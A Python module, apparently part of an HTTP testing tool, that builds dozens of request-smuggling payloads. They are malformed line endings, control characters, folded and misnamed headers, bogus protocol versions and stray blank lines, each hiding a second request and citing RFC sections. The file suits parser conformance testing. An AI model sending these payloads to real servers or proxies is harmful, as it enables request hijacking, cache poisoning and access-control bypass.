"""Techniques of heads: line ends, control characters, folded lines, names, versions, blank lines.

Where nothing else is said the head has a Content-Length that covers the hidden request and is spoilt in one place: who
reads the spoilt place otherwise loses the length or the end of the head, and meets a request.
"""

from loadtests.smuggling.techniques.parts import GET, HIDDEN, HOST, POST, Technique, with_length

_LENGTH = b"Content-Length: %d\r\n\r\n" % len(HIDDEN)
_LINE_SOURCE = "RFC 9112 2.2"
_VALUE_SOURCE = "RFC 9110 5.5"
_NAME_SOURCE = "RFC 9112 5.1, CVE-2023-25725"

_LINE_ENDS: dict[str, bytes] = {
    "request line by LF": POST.replace(b"1.1\r\n", b"1.1\n") + _LENGTH + HIDDEN,
    "request line by CR": POST.replace(b"1.1\r\n", b"1.1\r") + _LENGTH + HIDDEN,
    "request line by CR CR LF": POST.replace(b"1.1\r\n", b"1.1\r\r\n") + _LENGTH + HIDDEN,
    "all by LF": (POST + _LENGTH + HIDDEN).replace(b"\r\n", b"\n"),
    "field by LF": POST + b"X: y\n" + _LENGTH + HIDDEN,
    "field by CR": POST + b"X: y\r" + _LENGTH + HIDDEN,
    "field by LF CR": POST + b"X: y\n\r" + _LENGTH + HIDDEN,
    "head by LF": POST + b"X: y\r\n\n" + HIDDEN,
    "head by CR": POST + b"X: y\r\n\r" + HIDDEN,
    "head by LF LF": POST + b"X: y\n\n" + _LENGTH + HIDDEN,
    "head by CR CR": POST + b"X: y\r\r" + _LENGTH + HIDDEN,
    "hidden behind LF LF in a value": POST + b"X: y\n\n" + HIDDEN,
    "hidden behind CR CR in a value": POST + b"X: y\r\r" + HIDDEN,
    "white space line ends the head": POST + b" \r\n" + HIDDEN,
    "white space before the first field": POST.replace(HOST, b" X: y\r\n" + HOST) + _LENGTH + HIDDEN,
}

_VALUES: dict[str, bytes] = {
    "NUL": b"X: a\0b",
    "backspace": b"X: a\x08b",
    "vertical tab": b"X: a\x0bb",
    "form feed": b"X: a\x0cb",
    "escape": b"X: a\x1bb",
    "DEL": b"X: a\x7fb",
    "folded by space": b"X: a\r\n b",
    "folded by tab": b"X: a\r\n\tb",
    "folded length": b"Content-Length:\r\n 0",
    "folded host": b"X: a\r\n Host: hidden.example",
}

_NAMES: dict[str, bytes] = {
    "empty": b": y",
    "empty, with a length": b": y\r\nContent-Length: 0",
    "space before the colon": b"X : y",
    "space before the colon of the length": b"Content-Length : 0",
    "tab before the colon of the length": b"Content-Length\t: 0",
    "NUL in the name": b"X\0Y: y",
    "no colon": b"Content-Length",
    "high byte": b"X\xe9: y",
    "parentheses": b"X(y): z",
    "slash": b"X/y: z",
    "at sign": b"X@y: z",
    "quotes": b'"X": y',
    "CR in the name": b"X\rY: y",
    "request line as a field": b"GET /up/hidden/000 HTTP/1.1",
}

_VERSIONS: dict[str, bytes] = {
    "none (HTTP/0.9)": b"GET /up/attack/000\r\n",
    "none, a POST": b"POST /up/attack/000\r\n",
    "HTTP/0.9 said": b"POST /up/attack/000 HTTP/0.9\r\n",
    "HTTP/1.2": b"POST /up/attack/000 HTTP/1.2\r\n",
    "HTTP/1.10": b"POST /up/attack/000 HTTP/1.10\r\n",
    "HTTP/1.01": b"POST /up/attack/000 HTTP/1.01\r\n",
    "HTTP/1": b"POST /up/attack/000 HTTP/1\r\n",
    "HTTP/2.0": b"POST /up/attack/000 HTTP/2.0\r\n",
    "HTTP/9.9": b"POST /up/attack/000 HTTP/9.9\r\n",
    "lower case": b"POST /up/attack/000 http/1.1\r\n",
    "space in the version": b"POST /up/attack/000 HTTP/1. 1\r\n",
    "two spaces": b"POST  /up/attack/000 HTTP/1.1\r\n",
    "tabs": b"POST\t/up/attack/000\tHTTP/1.1\r\n",
    "space behind": b"POST /up/attack/000 HTTP/1.1 \r\n",
    "two versions": b"POST /up/attack/000 HTTP/1.0 HTTP/1.1\r\n",
    "space before": b" POST /up/attack/000 HTTP/1.1\r\n",
    "method with a colon": b"POST: /up/attack/000 HTTP/1.1\r\n",
    "method with a NUL": b"POST\0 /up/attack/000 HTTP/1.1\r\n",
}


def _spoilt(family: str, source: str, lines: dict[str, bytes]) -> tuple[Technique, ...]:
    return tuple(
        Technique(family, name, source, (POST + line + b"\r\n" + _LENGTH + HIDDEN,)) for name, line in lines.items()
    )


HEADS = (
    *(Technique("line end", name, _LINE_SOURCE, (text,)) for name, text in _LINE_ENDS.items()),
    Technique("line end", "NEL as an end", "RFC 9110 5.5", (POST + b"X: y\x85" + _LENGTH + HIDDEN,), pipelined=True),
    *_spoilt("field value", _VALUE_SOURCE, _VALUES),
    *_spoilt("field name", _NAME_SOURCE, _NAMES),
    Technique("field name", "underscore in the length", "RFC 3875 4.1.18",
              (with_length(POST + b"Content_Length: 0\r\n", HIDDEN),)),
    Technique("field name", "underscore in the host", "RFC 9110 7.2",
              (with_length(POST + b"Host_: hidden.example\r\nX_Forwarded_For: 6.6.6.6\r\n", HIDDEN),)),
    Technique("field name", "length under another name", "RFC 9110 8.6",
              (with_length(POST + b"X-Content-Length: 0\r\nContent-Length-: 0\r\n", HIDDEN),)),
    *(Technique("version", name, "RFC 9112 2.3, 3",
              (line + HOST + _LENGTH + HIDDEN,)) for name, line in _VERSIONS.items()),
    Technique("version", "HTTP/1.0, then 1.1 on the same connection", "RFC 9112 9.3",
              (GET.replace(b"1.1", b"1.0") + b"\r\n" + HIDDEN,), pipelined=True),
    Technique("version", "HTTP/1.0 with keep-alive, then 1.1", "RFC 9112 9.3",
              (GET.replace(b"1.1", b"1.0") + b"Connection: keep-alive\r\n\r\n" + HIDDEN,), pipelined=True),
    Technique("blank line", "one before the request", _LINE_SOURCE, (b"\r\n" + with_length(POST, HIDDEN),)),
    Technique("blank line", "five before the request", _LINE_SOURCE, (b"\r\n" * 5 + with_length(POST, HIDDEN),)),
    Technique("blank line", "LF before the request", _LINE_SOURCE, (b"\n" + with_length(POST, HIDDEN),)),
    Technique("blank line", "between body and next request", _LINE_SOURCE,
              (with_length(POST, b"abc") + b"\r\n" + HIDDEN,), pipelined=True),
    Technique("blank line", "garbage between two requests", _LINE_SOURCE,
              (with_length(POST, b"abc") + b"x" + HIDDEN,), pipelined=True),
    Technique("limit", "head over the limit, hidden behind it", "RFC 9110 5.4",
              (with_length(POST + b"X: %b\r\n" % (b"y" * 40_000), HIDDEN),)),
    Technique("limit", "101 fields, the length last", "RFC 9110 5.4",
              (POST + b"".join(b"X-%d: y\r\n" % i for i in range(101)) + _LENGTH + HIDDEN,)),
)  # fmt: skip
